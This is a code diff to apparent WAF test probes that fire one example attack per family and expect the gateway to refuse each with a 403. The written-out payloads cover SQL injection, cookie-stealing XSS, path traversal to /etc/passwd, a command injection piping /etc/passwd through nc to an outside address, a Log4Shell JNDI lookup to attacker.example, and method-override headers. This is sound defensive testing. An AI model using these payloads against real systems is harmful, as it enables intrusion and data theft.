@@ -1,58 +1,101 @@
-import { backendUntouched, distributionRequests, everyRefusedByGateway, frontDoorUntouched } from "../checks";
+import { backendUntouched, distributionUntouched, everyRefusedByGateway, frontDoorUntouched } from "../checks";
 import type { Probe } from "../probe";
 import { throughExternalHost, type RequestParts } from "../requests";
 import { resourcesOf } from "../resources";
 import type { ProbeTarget } from "../target";
-import { VantagePointName } from "../vantagePoint";
+import { type ProbeRequest, VantagePointName } from "../vantagePoint";
+import { METHOD_OVERRIDES } from "./methodOverrides";
+import { CLIENTS_ELSEWHERE } from "./places";
+
+interface Attack {
+  id: string;
+  title: string;
+  parts: RequestParts;
+}
 
 /** What the WAF must stop: one plain example of each family, through the front entrance. */
 export function attackProbes(target: ProbeTarget): Probe[] {
-  const { samplePath } = target;
-  const query = (text: string): RequestParts => ({ path: `${samplePath}?q=${encodeURIComponent(text)}` });
+  const attacks = attacksOn(target);
+  const reading = attacks.filter(({ parts }) => parts.json === undefined);
   return [
-    attack(
-      target,
-      "attack-sql-query",
-      "SQL injection in the query",
-      query("1' UNION SELECT name, password FROM users-- -"),
+    ...attacks.map(({ id, title, parts }) =>
+      refused(target, VantagePointName.Internet, id, title, [throughExternalHost(target, parts)]),
     ),
-    attack(target, "attack-sql-json", "SQL injection in JSON", {
-      method: "POST",
-      path: samplePath,
-      json: JSON.stringify({ name: "x' OR '1'='1' UNION SELECT password FROM users-- -" }),
-    }),
-    attack(target, "attack-xss", "cross-site scripting", query("<script>alert(document.cookie)</script>")),
-    attack(target, "attack-path-traversal", "path traversal", query("../../../../etc/passwd")),
-    attack(
-      target,
-      "attack-command-injection",
-      "command injection",
-      query("127.0.0.1; cat /etc/passwd | nc 198.51.100.66 9"),
+    ...CLIENTS_ELSEWHERE.map(({ from, name }) =>
+      refused(
+        target,
+        from,
+        `attacks-${name}`,
+        "the same attacks from elsewhere",
+        reading.map(({ parts }) => throughExternalHost(target, parts)),
+      ),
     ),
-    attack(target, "attack-log4shell", "Log4Shell in a header", {
-      path: samplePath,
-      headers: [["X-Api-Version", "${jndi:ldap://attacker.example/a}"]],
-    }),
   ];
 }
 
-function attack(target: ProbeTarget, id: string, title: string, parts: RequestParts): Probe {
+function attacksOn({ samplePath, writePath }: ProbeTarget): Attack[] {
+  const query = (text: string): RequestParts => ({ path: `${samplePath}?q=${encodeURIComponent(text)}` });
+  return [
+    {
+      id: "attack-sql-query",
+      title: "SQL injection in the query",
+      parts: query("1' UNION SELECT name, password FROM users-- -"),
+    },
+    {
+      id: "attack-sql-json",
+      title: "SQL injection in JSON",
+      parts: {
+        method: "POST",
+        path: writePath ?? samplePath,
+        json: JSON.stringify({ name: "x' OR '1'='1' UNION SELECT password FROM users-- -" }),
+      },
+    },
+    {
+      id: "attack-xss",
+      title: "cross-site scripting",
+      parts: query("<script>alert(document.cookie)</script>"),
+    },
+    { id: "attack-path-traversal", title: "path traversal", parts: query("../../../../etc/passwd") },
+    {
+      id: "attack-command-injection",
+      title: "command injection",
+      parts: query("127.0.0.1; cat /etc/passwd | nc 198.51.100.66 9"),
+    },
+    {
+      id: "attack-log4shell",
+      title: "Log4Shell in a header",
+      parts: { path: samplePath, headers: [["X-Api-Version", "${jndi:ldap://attacker.example/a}"]] },
+    },
+    {
+      id: "attack-method-override",
+      title: "another method in a header than in the request line",
+      parts: { path: samplePath, headers: METHOD_OVERRIDES.map((name) => [name, "OPTIONS"]) },
+    },
+  ];
+}
+
+function refused(
+  target: ProbeTarget,
+  from: VantagePointName,
+  id: string,
+  title: string,
+  requests: ProbeRequest[],
+): Probe {
   const { wafRules } = resourcesOf(target);
+  const answers = "403 by the gateway";
   return {
     id,
     title,
-    from: VantagePointName.Internet,
-    requests: [throughExternalHost(target, parts)],
-    expectation: "403 by the gateway; nothing beyond it saw the request",
+    from,
+    requests,
+    expectation: `${answers}; nothing beyond it saw the request`,
     observed: true,
     judge: (evidence) => [
       ...everyRefusedByGateway(evidence, wafRules),
-      ...distributionRequests(evidence.observations).map(({ status }) => ({
-        what: `the distribution got the request and answered ${status}`,
-        lookAt: wafRules,
-      })),
+      ...distributionUntouched(evidence, wafRules),
       ...frontDoorUntouched(evidence, wafRules),
       ...backendUntouched(evidence, wafRules),
     ],
+    byAnswers: { expectation: answers, judge: (evidence) => everyRefusedByGateway(evidence, wafRules) },
   };
 }
